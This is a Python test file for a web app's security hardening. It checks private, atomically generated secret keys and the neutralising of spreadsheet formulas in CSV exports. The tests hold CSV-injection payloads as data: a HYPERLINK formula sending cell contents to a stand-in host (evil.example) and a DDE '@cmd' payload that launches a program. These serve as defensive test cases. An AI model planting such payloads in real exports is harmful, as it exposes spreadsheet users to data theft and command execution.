"""Secrets and exports (#10, item 5): the generated secret key is made once, atomically and
privately; CSV exports cannot carry spreadsheet formulas."""

import csv
import io
import os
import stat
import subprocess
import sys
import time

import pytest
from portfolio_helpers import demo_project
from sqlmodel import select

import boardroom.models as m
from boardroom import env_int, instance_secret
from boardroom.core.views import spreadsheet_safe

# --------------------------------------------------------------------------- the secret key


def test_the_generated_key_is_private_and_kept(tmp_path):
    key = instance_secret(str(tmp_path))
    path = tmp_path / "secret_key"
    assert len(key) == 64
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert instance_secret(str(tmp_path)) == key
    assert [p.name for p in tmp_path.iterdir()] == ["secret_key"]  # no temporary file left behind


def test_a_world_readable_key_from_an_older_version_is_made_private(tmp_path):
    path = tmp_path / "secret_key"
    path.write_text("a" * 64 + "\n")
    path.chmod(0o644)
    assert instance_secret(str(tmp_path)) == "a" * 64
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_an_empty_key_file_stops_the_start_with_a_clear_message(tmp_path):
    (tmp_path / "secret_key").write_text("")
    with pytest.raises(RuntimeError, match="holds no usable key"):
        instance_secret(str(tmp_path))


def test_servers_starting_at_once_get_one_key(tmp_path):
    start = time.time() + 1.5
    script = ("import sys, time; from boardroom import instance_secret\n"
              f"time.sleep(max(0, {start} - time.time()))\n"
              f"print(instance_secret({str(tmp_path)!r}))")
    processes = [subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
                 for _ in range(6)]
    keys = {p.communicate(timeout=60)[0].strip() for p in processes}
    assert all(p.returncode == 0 for p in processes)
    assert len(keys) == 1 and len(keys.pop()) == 64


def test_settings_that_are_not_numbers_are_refused_clearly(monkeypatch):
    monkeypatch.setenv("BOARDROOM_SESSION_IDLE_MINUTES", "åtte timer")
    with pytest.raises(RuntimeError, match="BOARDROOM_SESSION_IDLE_MINUTES must be a whole number"):
        env_int("BOARDROOM_SESSION_IDLE_MINUTES", 480)
    monkeypatch.setenv("BOARDROOM_SESSION_IDLE_MINUTES", " 30 ")
    assert env_int("BOARDROOM_SESSION_IDLE_MINUTES", 480) == 30
    monkeypatch.delenv("BOARDROOM_SESSION_IDLE_MINUTES")
    assert env_int("BOARDROOM_SESSION_IDLE_MINUTES", 480) == 480


def test_no_env_no_key_means_a_private_key_in_the_instance_folder(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("BOARDROOM_")}
    script = ("from boardroom import create_app\n"
              f"app = create_app({{'DATABASE_URL': 'sqlite:///{tmp_path}/x.sqlite', 'BASE_URL': 'http://x'}})\n"
              "import os, stat; p = os.path.join(app.instance_path, 'secret_key')\n"
              "print(app.config['SECRET_KEY'] == open(p).read().strip(), oct(stat.S_IMODE(os.stat(p).st_mode)))")
    out = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["True", "0o600"]


# --------------------------------------------------------------------------- CSV formulas


@pytest.mark.parametrize("cell, shown", [
    ("=HYPERLINK(\"http://evil.example\";\"Klikk\")", "'=HYPERLINK(\"http://evil.example\";\"Klikk\")"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("-", "'-"),
    # plain numbers stay numbers, negative amounts included
    ("-1 234,50", "-1 234,50"),
    ("-1\u00a0234,50", "-1\u00a0234,50"),
    ("-12.5", "-12.5"),
    ("+47", "+47"),
    ("-5%", "-5%"),
    ("67 472,92", "67 472,92"),
    ("Alle unntatt Bindal (18/19)", "Alle unntatt Bindal (18/19)"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (-3, "-3"),
])
def test_cells_that_spreadsheets_would_evaluate_are_made_text(cell, shown):
    assert spreadsheet_safe(cell) == shown


def test_a_formula_typed_into_a_benefit_is_exported_as_text_and_imported_back(client, auth, demo):
    rpa = demo_project(demo, "RPA")
    benefit = demo.exec(select(m.Benefit).where(m.Benefit.project_id == rpa.id).order_by(m.Benefit.id)).first()
    benefit.description = '=HYPERLINK("http://evil.example/?"&A1;"Se gevinsten")'
    demo.add(benefit)
    demo.commit()
    response = client.get(f"/projects/{rpa.id}/benefits.csv")
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
    assert rows[1][2] == "'" + benefit.description
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)

    auth.login("secretary")
    upload = {"file": (io.BytesIO(response.get_data()), "rpa.csv"), "replace": "y"}
    assert auth.post(f"/projects/{rpa.id}/benefits/import", upload, content_type="multipart/form-data").status_code == 302
    first = demo.exec(select(m.Benefit).where(m.Benefit.project_id == rpa.id).order_by(m.Benefit.id)).first()
    demo.refresh(first)
    assert first.description == benefit.description  # the apostrophe is the export's, not the data's


def test_a_formula_in_a_participation_remark_is_exported_as_text(client, auth, demo):
    decision = demo.exec(select(m.ProjectDecision).order_by(m.ProjectDecision.id)).first()
    decision.remark = "@cmd|' /C calc'!A0"
    demo.add(decision)
    demo.commit()
    text = client.get("/participation.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    remarks = [row[-1] for row in rows[1:]]
    assert any(r.startswith("'@cmd|") for r in remarks)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
